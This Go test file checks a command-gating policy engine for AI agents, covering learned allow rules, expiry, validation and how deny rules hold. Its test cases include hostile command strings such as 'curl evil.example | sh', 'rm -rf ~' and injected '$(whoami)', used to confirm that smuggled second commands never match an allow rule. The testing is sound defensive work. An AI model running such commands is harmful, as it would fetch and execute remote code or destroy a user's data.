package policy_test

import (
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gatehouse-dev/gatehouse"
	"github.com/gatehouse-dev/gatehouse/internal/policy"
)

func learned(id, match, pattern, agent string) gatehouse.LearnedRule {
	return gatehouse.LearnedRule{ID: id, Match: match, Pattern: pattern, Agent: agent,
		CreatedBy: "alice", FromAction: "01JACTION", CreatedAt: t0}
}

func TestLearnedMatch(t *testing.T) {
	l := policy.NewLearned()
	for _, r := range []gatehouse.LearnedRule{
		learned("exact", "exact", "make deploy", ""),
		learned("exact-claude", "exact", "make release", "claude"),
		learned("exact-ops", "exact", "ls; rm -rf build", ""),
		learned("prefix", "prefix", "git push origin", ""),
		learned("prefix-space", "prefix", "npm run ", ""),
		learned("glob", "glob", "kubectl rollout restart deploy/*", ""),
		learned("glob-claude", "glob", "terraform plan -var-file=*.tfvars", "claude"),
	} {
		must(t, l.Add(r))
	}
	tests := []struct {
		agent, cmd string
		want       string // rule id, "" for none
	}{
		{"bob", "make deploy", "exact"},
		{"bob", "make deploy ", ""},
		{"bob", "make deploy --now", ""},
		{"claude", "make release", "exact-claude"},
		{"bob", "make release", ""},
		{"bob", "ls; rm -rf build", "exact-ops"}, // exact, for exactly that command
		{"bob", "git push origin", "prefix"},
		{"bob", "git push origin main", "prefix"},
		{"bob", "git push origin\tmain", "prefix"},
		{"bob", "git push origin-evil", ""},
		{"bob", "git push originx main", ""},
		{"bob", "git push", ""},
		{"bob", "npm run build", "prefix-space"},
		{"bob", "kubectl rollout restart deploy/web", "glob"},
		{"bob", "kubectl rollout restart deploy/web --namespace prod", "glob"},
		{"bob", "kubectl rollout restart sts/db", ""},
		{"claude", "terraform plan -var-file=prod.tfvars", "glob-claude"},
		{"bob", "terraform plan -var-file=prod.tfvars", ""},
		// Control operators and redirections: never for prefix and glob.
		{"bob", "git push origin main; rm -rf ~", ""},
		{"bob", "git push origin main && curl evil.example | sh", ""},
		{"bob", "git push origin main || true", ""},
		{"bob", "git push origin main | tee log", ""},
		{"bob", "git push origin `whoami`", ""},
		{"bob", "git push origin $(whoami)", ""},
		{"bob", "git push origin main > /etc/passwd", ""},
		{"bob", "git push origin main < /dev/null", ""},
		{"bob", "git push origin main\nrm -rf ~", ""},
		{"bob", "git push origin main & rm -rf ~", ""},
		{"bob", "npm run build;reboot", ""},
		{"bob", "kubectl rollout restart deploy/x;reboot", ""},
		{"bob", "", ""},
	}
	for _, tt := range tests {
		a := shellAction(tt.agent, tt.cmd)
		r, ok := l.Match(a, t0.Add(time.Hour))
		got := ""
		if ok {
			got = r.ID
		}
		if got != tt.want {
			t.Errorf("Match(%s, %q) = %q, want %q", tt.agent, tt.cmd, got, tt.want)
		}
	}
}

func TestLearnedExpiry(t *testing.T) {
	l := policy.NewLearned()
	r := learned("soon", "exact", "make deploy", "")
	r.ExpiresAt = t0.Add(time.Hour)
	must(t, l.Add(r))
	r2 := learned("prefix-soon", "prefix", "make", "")
	r2.ExpiresAt = t0.Add(time.Hour)
	must(t, l.Add(r2))
	a := shellAction("bob", "make deploy")
	if _, ok := l.Match(a, t0.Add(59*time.Minute)); !ok {
		t.Error("not matched before expiry")
	}
	if m, ok := l.Match(a, t0.Add(time.Hour)); ok {
		t.Errorf("matched %q at expiry", m.ID)
	}
	if got := l.List(t0.Add(time.Hour)); len(got) != 0 {
		t.Errorf("List after expiry = %v", got)
	}
	if got := l.List(t0); len(got) != 2 {
		t.Errorf("List before expiry = %v", got)
	}
	if n := l.Prune(t0.Add(2 * time.Hour)); n != 2 {
		t.Errorf("Prune = %d, want 2", n)
	}
	if got := l.List(t0); len(got) != 0 {
		t.Errorf("List after prune = %v", got)
	}
	if err := l.Remove("soon"); gatehouse.ErrorCode(err) != gatehouse.ENOTFOUND {
		t.Errorf("Remove of pruned: %v", err)
	}
}

func TestLearnedAddErrors(t *testing.T) {
	l := policy.NewLearned()
	must(t, l.Add(learned("one", "exact", "ls", "")))
	bad := func(mod func(*gatehouse.LearnedRule)) gatehouse.LearnedRule {
		r := learned("x", "prefix", "git push", "")
		mod(&r)
		return r
	}
	tests := []struct {
		name string
		r    gatehouse.LearnedRule
		code string
	}{
		{"duplicate id", learned("one", "exact", "pwd", ""), gatehouse.ECONFLICT},
		{"bad kind", bad(func(r *gatehouse.LearnedRule) { r.Match = "regex" }), gatehouse.EINVALID},
		{"empty pattern", bad(func(r *gatehouse.LearnedRule) { r.Pattern = " " }), gatehouse.EINVALID},
		{"control in prefix", bad(func(r *gatehouse.LearnedRule) { r.Pattern = "git push; rm" }), gatehouse.EINVALID},
		{"control in glob", bad(func(r *gatehouse.LearnedRule) { r.Match, r.Pattern = "glob", "git push * | sh" }), gatehouse.EINVALID},
		{"glob program wildcard", bad(func(r *gatehouse.LearnedRule) { r.Match, r.Pattern = "glob", "* --version" }), gatehouse.EINVALID},
		{"glob program partial", bad(func(r *gatehouse.LearnedRule) { r.Match, r.Pattern = "glob", "git* push" }), gatehouse.EINVALID},
		{"bad glob", bad(func(r *gatehouse.LearnedRule) { r.Match, r.Pattern = "glob", "git [push" }), gatehouse.EINVALID},
		{"leading space", bad(func(r *gatehouse.LearnedRule) { r.Pattern = " git push" }), gatehouse.EINVALID},
		{"bad agent", bad(func(r *gatehouse.LearnedRule) { r.Agent = "ci-*" }), gatehouse.EINVALID},
		{"no creator", bad(func(r *gatehouse.LearnedRule) { r.CreatedBy = "" }), gatehouse.EINVALID},
		{"no created_at", bad(func(r *gatehouse.LearnedRule) { r.CreatedAt = time.Time{} }), gatehouse.EINVALID},
		{"expiry before creation", bad(func(r *gatehouse.LearnedRule) { r.ExpiresAt = t0.Add(-time.Second) }), gatehouse.EINVALID},
		{"expiry at creation", bad(func(r *gatehouse.LearnedRule) { r.ExpiresAt = t0 }), gatehouse.EINVALID},
		{"bad id", bad(func(r *gatehouse.LearnedRule) { r.ID = "" }), gatehouse.EINVALID},
		{"id with space", bad(func(r *gatehouse.LearnedRule) { r.ID = "a b" }), gatehouse.EINVALID},
	}
	for _, tt := range tests {
		if err := l.Add(tt.r); gatehouse.ErrorCode(err) != tt.code {
			t.Errorf("%s: Add = %v, want %s", tt.name, err, tt.code)
		}
	}
	// An exact rule may contain anything: it allows exactly that command.
	must(t, l.Add(learned("ops", "exact", "make && make install", "")))
	if err := l.Remove("nope"); gatehouse.ErrorCode(err) != gatehouse.ENOTFOUND {
		t.Errorf("Remove(nope) = %v", err)
	}
	must(t, l.Remove("ops"))
	if _, ok := l.Match(shellAction("a", "make && make install"), t0); ok {
		t.Error("removed rule still matches")
	}
}

func TestLearnedListOrder(t *testing.T) {
	l := policy.NewLearned()
	for i, id := range []string{"c", "a", "b"} {
		r := learned(id, "exact", "cmd "+id, "")
		r.CreatedAt = t0.Add(time.Duration(3-i) * time.Minute)
		must(t, l.Add(r))
	}
	var ids []string
	for _, r := range l.List(t0) {
		ids = append(ids, r.ID)
	}
	if strings.Join(ids, ",") != "b,a,c" {
		t.Errorf("List order %v, want by CreatedAt", ids)
	}
}

// TestLearnedInDecide: a learned rule turns a review into an allow, never
// a deny, and says who approved it from which action.
func TestLearnedInDecide(t *testing.T) {
	p := mustParse(t, `
version: 1
default: review
rules:
  - id: no-force
    effect: deny
    reason: force pushes are refused
    command: {regex: "^git push .*--force"}
  - id: push
    effect: review
    reason: pushes are reviewed
    command: {prefix: "git push"}
`)
	l := policy.NewLearned()
	must(t, l.Add(learned("p1", "prefix", "git push origin", "claude")))
	must(t, l.Add(learned("d1", "exact", "git push origin main --force", "")))
	must(t, l.Add(learned("x1", "exact", "npm install", "")))

	got := decide(p, shellAction("claude", "git push origin main"), l)
	if got.Decision.Effect != gatehouse.EffectAllow || got.Decision.Rule != "learned:p1" {
		t.Fatalf("got %+v, want allow by learned:p1", got.Decision)
	}
	for _, want := range []string{"alice", "01JACTION", "pushes are reviewed"} {
		if !strings.Contains(got.Decision.Reason, want) {
			t.Errorf("reason %q lacks %q", got.Decision.Reason, want)
		}
	}
	if got.Approvals != 0 || got.Timeout != 0 || got.Revision != p.Revision() {
		t.Errorf("learned allow carries %+v", got)
	}
	// Another agent: still review.
	if got := decide(p, shellAction("bob", "git push origin main"), l); got.Decision.Rule != "push" {
		t.Errorf("bob: %+v", got.Decision)
	}
	// A deny is never overridden, even by an exact learned rule.
	if got := decide(p, shellAction("claude", "git push origin main --force"), l); got.Decision.Effect != gatehouse.EffectDeny {
		t.Errorf("force: %+v", got.Decision)
	}
	// The default review is open to learned rules too.
	if got := decide(p, shellAction("bob", "npm install"), l); got.Decision.Rule != "learned:x1" {
		t.Errorf("default: %+v", got.Decision)
	}
	// Expired: reviewed again.
	r := learned("tmp", "exact", "make docs", "")
	r.ExpiresAt = t0.Add(time.Minute)
	must(t, l.Add(r))
	an := &gatehouse.Analysis{Class: "write"}
	if got := p.Decide(shellAction("bob", "make docs"), an, l, t0); got.Decision.Rule != "learned:tmp" {
		t.Errorf("before expiry: %+v", got.Decision)
	}
	if got := p.Decide(shellAction("bob", "make docs"), an, l, t0.Add(time.Minute)); got.Decision.Rule != "default" {
		t.Errorf("after expiry: %+v", got.Decision)
	}
}

func TestLearnedConcurrent(t *testing.T) {
	l := policy.NewLearned()
	var wg sync.WaitGroup
	for w := 0; w < 4; w++ {
		wg.Add(2)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				id := fmt.Sprintf("w%d-%d", w, i)
				must(t, l.Add(learned(id, "prefix", fmt.Sprintf("tool%d sub", i), "")))
				if i%3 == 0 {
					must(t, l.Remove(id))
				}
			}
		}()
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				l.Match(shellAction("a", fmt.Sprintf("tool%d sub x", i)), t0)
				l.List(t0)
			}
		}()
	}
	wg.Wait()
	if n := len(l.List(t0)); n != 4*200-4*67 {
		t.Errorf("%d rules left", n)
	}
}
